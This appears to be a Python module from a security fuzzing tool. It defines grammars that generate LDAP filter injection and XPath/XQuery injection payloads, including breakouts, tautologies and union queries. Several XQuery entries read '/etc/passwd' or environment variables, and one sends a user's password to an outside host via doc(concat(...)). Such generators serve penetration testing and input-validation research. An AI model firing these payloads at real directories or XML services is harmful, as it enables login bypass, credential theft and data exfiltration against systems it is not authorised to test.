"""Injection into directory filters and path expressions over XML: LDAP and XPath.

From RFC 4515 and the XPath 1.0 to 3.1 recommendations. A filter must have its parentheses in order once the value is in it.
"""

from ..grammar import Grammar

FILTERS = [
    "(uid={})",
    "(&(uid={})(userPassword=x))",
    "(|(cn={})(sn={}))",
    "(&(objectClass=user)(sAMAccountName={}))",
    "(cn=*{}*)",
    "(&(uid=x)(userPassword={}))",
]


def closes(value: str) -> bool:
    """Whether a filter with the value in it begins with a whole one that the value ends, or is one itself."""
    for pattern in FILTERS:
        filled = pattern.replace("{}", value)
        depth = 0
        for at, letter in enumerate(filled):
            depth += (letter == "(") - (letter == ")")
            if depth == 0:
                if at < len(filled) - 1 or "(" in value or "*" in value:
                    return True
                break
    return value.startswith(("*", "(", "%2", "\\"))


def grammars() -> list[Grammar]:
    g = Grammar("ldapi")
    g.rule(
        "attr",
        "cn",
        "uid",
        "userPassword",
        "objectClass",
        "sn",
        "mail",
        "givenName",
        "sAMAccountName",
        "memberOf",
        "telephoneNumber",
        "description",
        "ou",
        "dc",
        "displayName",
        "homeDirectory",
        "loginShell",
        "uidNumber",
        "userid",
        "department",
        "title",
        "krbPrincipalName",
        "pwdLastSet",
        "servicePrincipalName",
    )
    g.rule(
        "test",
        "«attr»=*",
        "«attr»=«w»",
        "«attr»=a*",
        "«attr»>=0",
        "«attr»~=x",
        "!(«attr»=x)",
        "«attr»<=z",
        "«attr»=*)(«attr»=*",
        "|(«attr»=*)",
        "&(«attr»=*)(«attr»=x*)",
        "«attr»:caseExactMatch:=x",
        "«attr»:1.2.840.113556.1.4.803:=2",
        "«attr»:dn:=«w»",
        "objectClass=*",
        "objectClass=user",
    )
    g.rule("val", "*", "*", "«w»", "admin", "", "x*", "«w»*")
    g.rule("end", "", "", "", "%00", "\0", "(", "(&", "(|(", "))", ")", ")(|(", "(cn=", ")%00", "))%00", "(&(1=0")
    g.family(
        "filter-breakout",
        "«val»)(«test»)«end»",
        "«val»)(«test»«end»",
        "«val»)(|(«test»)«end»",
        "«val»)(&(«test»)«end»",
        "«val»))(|(«test»)«end»",
        "«val»)(&«end»",
        "«val»)(|(&«end»",
        "«val»))«end»",
        "admin)(&)",
        "admin)(!(&(1=0))",
        "«val»)(«attr»=*))(|(«attr»=*",
        "«val»)(!(«test»))«end»",
        "«val»)(&))«end»",
        "*)(uid=*))(|(uid=*",
        "*)(objectClass=*",
        "«w»))(&(«attr»=«w»",
        "*()|&'",
        "*()|%26'",
        "admin*)((|userPassword=*)",
        "«val»)(«test»)(«test»)",
        "«val»)(|(«attr»=*)(«attr»=*))",
        check=closes,
        weight=4,
    )
    g.family(
        "filter-whole",
        "(«test»)",
        "(&(«test»)(«test»))",
        "(|(«test»)(«test»))",
        "(!(«test»))",
        "(&)",
        "(|)",
        "(&(objectClass=user)(«attr»=«w»))",
        "|(«test»)",
        "!(«test»)",
        "&(«test»)",
        "(|(«attr»=*)(«attr»=*))",
        "(&(|(objectClass=*)(«test»)))",
    )
    g.family(
        "wildcard", "*", "«w»*", "*«w»*", "a*", "*)", "admin*", "*(|(mail=*))", "*(|(objectclass=*))", "*)(|", "*|", tags=["needs-sink"]
    )
    g.family(
        "escaped",
        "\\2a\\29\\28«attr»=\\2a",
        "%2a%29%28«attr»%3d%2a",
        "*%29%28«attr»%3D*",
        "\\28\\7c(«attr»=*)",
        "%28%7c%28«attr»=*%29%29",
        "*)%28%7C%28«attr»=*",
        "«w»%29%28%26",
    )
    g.family(
        "distinguished-name",
        "cn=«w»,dc=example,dc=com",
        "«w»,ou=admins,dc=example",
        "«w»\\,ou=x",
        "ldap://x.example/dc=«w»",
        "ldap://x.example:389/dc=x??sub?(objectClass=*)",
        "ldaps://10.0.0.1/o=x",
        "#04024869",
        "«w»+cn=admin",
        tags=["needs-sink"],
    )

    x = Grammar("xpath")
    x.rule("q", "'", "'", '"')
    x.rule(
        "node",
        "//user",
        "//*",
        "/",
        "//user[1]",
        "//user/password",
        "//user[position()=1]/child::node()[position()=2]",
        "//node()",
        "/*[1]",
        "//text()",
        "//@*",
        "parent::*",
        "//comment()",
        "..",
        "self::node()",
        "//user[name()='a']/password",
        "ancestor::*",
        "//users/user",
        "following-sibling::*[1]",
        "/descendant::node()",
        "//item[«n»]",
    )
    x.rule(
        "fn",
        "count(«node»)=«n»",
        "string-length(name(/*[1]))=«n»",
        "substring(name(/*[1]),1,1)='a'",
        "string-length(«node»)>«n»",
        "contains(name(/*),'a')",
        "starts-with(«node»,'a')",
        "substring(«node»,1,1)='a'",
        "count(/*)=1",
        "name()='username'",
        "position()=«n»",
        "last()=«n»",
        "not(1=2)",
        "true()",
        "boolean(«node»)",
        "string-to-codepoints(«node»)[1]=97",
        "doc('http://x.example/')",
        "doc-available('http://x.example')",
        "unparsed-text('/etc/passwd')",
        "system-property('xsl:vendor')",
        "matches(«node»,'a')",
        "normalize-space(«node»)='x'",
        "substring-before(«node»,'a')='x'",
        "text()='«w»'",
        "namespace-uri(/*)=''",
        "local-name(/*)='a'",
        "document('/etc/passwd')",
        "lower-case(«node»)='a'",
        "exists(«node»)",
        "ends-with(«node»,'a')",
        "concat('a','b')='ab'",
        "translate(«node»,'a','b')='b'",
        "sum(«node»)>0",
        "codepoint-equal('a','a')",
        "current-date()",
        "environment-variable('PATH')",
    )
    x.family(
        "condition",
        "«w»' or «fn» or 'a'='b",
        "' or «fn» or '",
        "«w»' and «fn» and '1'='1",
        "' or «fn» or ''='",
        '" or «fn» or "a"="b',
        "1 or «fn»",
        "1 and «fn»",
        "«n»] | «node»[«fn»",
        "«w»' or «fn»]|//*['",
        "«fn»",
        "' and «fn» or '",
        "«w»') or «fn» or ('a'='b",
        weight=2,
    )
    x.family(
        "union",
        "«w»'] | «node» | //x['",
        "'] | «node» | /x[y='",
        "«w»')] | «node»[contains(.,'",
        "1] | «node» | //x[1",
        "']|//*|//*['",
        '«w»"]|«node»|//x["',
        "x]|//*|//x[x",
        "')] | «node» | a[('",
        "1]|«node»",
        "' ] | «node»/text() | a[ '",
        '" ] | //user/*[contains(*,"',
        "«node»|«node»",
        "')] | «node» | /x[contains(y,'",
    )
    x.family(
        "tautology",
        "' or '1'='1",
        "' or ''='",
        "«w»' or '«n:a»'='«n:a»",
        '" or ""="',
        "' or 1=1 or 'a'='a",
        "' or true() or '",
        "'or 1]%00",
        "admin' or '1'='1' or 'a'='b",
        "' or position()=1 or '",
        "x' or name()='username' or 'x'='y",
        "' or 1 eq 1 or 'a' eq 'b",
        "1 or true()",
        "' or not('",
    )
    x.family(
        "xquery",
        "' return «node» let $x := '",
        "') let $x:=doc('http://x.example') return ('",
        "for $x in «node» return $x",
        "let $a := «node» return $a",
        "' or (for $i in «node» return $i) or '",
        "declare variable $x := doc('/etc/passwd');",
        '") or collection("«w»") or ("',
        "doc(concat('http://x.example/',//user[1]/password))",
        "saxon:evaluate('«w»')",
        "if («fn») then error() else 0",
        "xquery:eval('1')",
        "fn:doc('file:///etc/passwd')",
        "file:read-text('/etc/passwd')",
    )
    return [g, x]
